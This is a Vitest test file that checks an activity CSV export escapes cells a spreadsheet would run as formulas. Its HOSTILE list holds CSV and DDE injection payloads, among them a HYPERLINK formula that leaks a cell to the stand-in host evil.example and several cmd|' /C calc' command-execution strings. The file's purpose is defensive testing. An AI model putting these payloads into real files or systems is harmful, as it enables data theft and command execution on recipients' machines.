import { describe, it, expect } from "vitest";
import { SELF } from "cloudflare:test";
import Papa from "papaparse";
import { activityEntry } from "@uas/db";
import { createTenant, signIn, testDb } from "../../../test/support";

/** Names and ids a partner could send that a spreadsheet would run as formulas. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  "-2+3+cmd|' /C calc'!A0",
  "+1+1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=1+1\nsecond line",
  "＝1+1",
];

describe("activity CSV export", () => {
  it("escapes every cell a spreadsheet would read as a formula, and leaves the others as they are", async () => {
    const tenant = await createTenant();
    const cookie = await signIn(tenant.admin.email, tenant.admin.password);
    const now = Date.now();
    const rows = [
      ...HOSTILE.map((value, i) => ({ name: value, externalId: `${value}#${i}` })),
      { name: "Ada-Lovelace O'Neil", externalId: "M-1" },
    ];
    await testDb()
      .insert(activityEntry)
      .values(
        rows.map((row, i) => ({
          at: now + i,
          organisationId: tenant.organisation.id,
          facilityId: tenant.granted.id,
          source: "integration" as const,
          externalId: row.externalId,
          name: row.name,
          outcome: "skipped" as const,
          reason: "=cmd|' /C calc'!A0",
        })),
      );

    const res = await SELF.fetch(`http://web.test/api/facilities/${tenant.granted.id}/activity.csv`, {
      headers: { cookie },
    });
    expect(res.status).toBe(200);
    const parsed = Papa.parse<Record<string, string>>(await res.text(), { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const byId = new Map(parsed.data.map((line) => [line["External ID"], line]));
    for (const [i, value] of HOSTILE.entries()) {
      const line = byId.get(`'${value}#${i}`);
      expect(line, JSON.stringify(value)).toBeDefined();
      expect(line!.Name).toBe(`'${value}`);
      expect(line!.Reason).toBe("'=cmd|' /C calc'!A0");
    }
    expect(byId.get("M-1")?.Name).toBe("Ada-Lovelace O'Neil");
    for (const line of parsed.data) {
      for (const cell of Object.values(line)) expect(cell, JSON.stringify(line)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
    }
  });
});
